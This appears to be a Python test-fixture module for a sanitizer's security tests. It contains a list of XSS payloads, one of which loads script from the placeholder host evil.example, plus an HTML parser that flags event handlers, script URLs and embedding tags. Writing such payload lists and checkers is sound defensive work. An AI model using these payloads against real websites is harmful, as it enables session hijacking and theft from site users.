"""Hostile input for the security tests: XSS payloads and a checker for rendered HTML."""

import re
from html.parser import HTMLParser

# Each payload tries to run `alert`, `confirm` or `prompt`, so a real browser
# reports it as a dialog if any of them gets through.
XSS_PAYLOADS = [
    "<script>alert('xss-script')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert('xss-mixed-case')</sCrIpT>",
    "<scr<script>ipt>alert('xss-nested')</scr</script>ipt>",
    '"><script>alert("xss-attribute-breakout")</script>',
    "'><img src=x onerror=alert('xss-single-quote')>",
    "<img src=x onerror=alert('xss-onerror')>",
    '<img src="x" ONERROR="alert(\'xss-upper-handler\')">',
    "<img/src=x/onerror=alert('xss-slashes')>",
    "<body onload=alert('xss-body-onload')>",
    '<div onmouseover="alert(\'xss-mouseover\')" style="position:fixed;inset:0">hover</div>',
    "<svg onload=alert('xss-svg-onload')>",
    "<svg><script>alert('xss-svg-script')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('xss-svg-link')\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-mxss')>",
    "<iframe src=\"javascript:alert('xss-iframe')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('xss-srcdoc')</script>\"></iframe>",
    "<object data=\"javascript:alert('xss-object')\"></object>",
    "<embed src=\"data:text/html,<script>alert('xss-embed')</script>\">",
    "<a href=\"javascript:alert('xss-href')\">click</a>",
    "<a href=\"JaVaScRiPt:alert('xss-href-case')\">click</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert('xss-entities')\">x</a>",
    "<a href=\"jav&#x09;ascript:alert('xss-tab-entity')\">x</a>",
    "<a href=\" \x01javascript:alert('xss-control-char')\">x</a>",
    "<a href=\"vbscript:msgbox('xss-vbscript')\">x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=">x</a>',
    "[markdown link](javascript:alert('xss-md-link'))",
    "[markdown entity link](&#106;avascript:alert('xss-md-entity'))",
    "![markdown image](javascript:alert('xss-md-image'))",
    "![x](x\" onerror=\"alert('xss-md-image-attr'))",
    "[ref link][r]\n\n[r]: javascript:alert('xss-md-reference')",
    "<javascript:alert('xss-autolink')>",
    "<div>\n<script>alert('xss-raw-block')</script>\n</div>",
    '<div markdown="1">*md* <img src=x onerror=alert("xss-md-in-html")></div>',
    "<style>body{background:url(\"javascript:alert('xss-style')\")}</style>",
    "<form action=\"javascript:alert('xss-form')\"><button>go</button></form>",
    "<input autofocus onfocus=alert('xss-autofocus')>",
    "<details open ontoggle=alert('xss-ontoggle')>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss-meta\')">',
    "<base href=\"javascript:alert('xss-base')//\">",
    "<!--<img src=\"--><img src=x onerror=alert('xss-comment')//\">",
    "<img src=`x` onerror=alert('xss-backtick')>",
    "<<img src=x onerror=alert('xss-double-angle')>",
    "<img src=x onerror=alert&#40;'xss-entity-paren'&#41;>",
    "&lt;script&gt;alert('xss-escaped-text')&lt;/script&gt;",
    "</script><script>alert('xss-json-ld-breakout')</script>",
    "<a href=x onclick=confirm('xss-confirm')>c</a> <b onclick=prompt('xss-prompt')>p</b>",
]

DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "xlink:href", "srcset", "data", "poster", "background"}
)
# Elements that never come from user content. (The site's own search form is
# allowed: its fields carry no handlers, which the attribute check covers.)
FORBIDDEN_TAGS = frozenset({"object", "embed", "svg", "math", "style", "base", "frame"})
_CONTROL = re.compile(r"[\x00-\x20\x7f]+")


def _scheme_of(url: str) -> str:
    return _CONTROL.sub("", url).lower()


class _DangerFinder(HTMLParser):
    def __init__(self, allowed_iframe_prefixes):
        super().__init__(convert_charrefs=True)
        self.allowed_iframe_prefixes = allowed_iframe_prefixes
        self.problems: list[str] = []
        self._script_type = None

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…> event handler")
            if name in URL_ATTRIBUTES and value and _scheme_of(value).startswith(DANGEROUS_SCHEMES):
                self.problems.append(f"<{tag} {name}={value!r}> dangerous URL")
        if tag == "meta" and "http-equiv" in attributes:
            self.problems.append(f"<meta http-equiv={attributes['http-equiv']!r}>")
        if tag == "script":
            self._script_type = attributes.get("type")
            if self._script_type != "application/ld+json":
                self.problems.append(f"<script {attributes}>")
        elif tag == "iframe":
            src = attributes.get("src") or ""
            if not src.startswith(self.allowed_iframe_prefixes) or "srcdoc" in attributes:
                self.problems.append(f"<iframe {attributes}>")
        elif tag == "form" and not (attributes.get("action") or "").startswith("/"):
            self.problems.append(f"<form {attributes}> posting elsewhere")
        elif tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")

    def handle_data(self, data):
        if self._script_type == "application/ld+json" and re.search(r"</?script|<!--", data, re.I):
            self.problems.append("markup inside JSON-LD")

    def handle_endtag(self, tag):
        if tag == "script":
            self._script_type = None


def dangerous_markup(html: str) -> list[str]:
    """What in `html` could run script: handlers, script URLs, script and embedding tags."""
    finder = _DangerFinder(allowed_iframe_prefixes=("https://www.youtube-nocookie.com/",))
    finder.feed(html)
    finder.close()
    return finder.problems
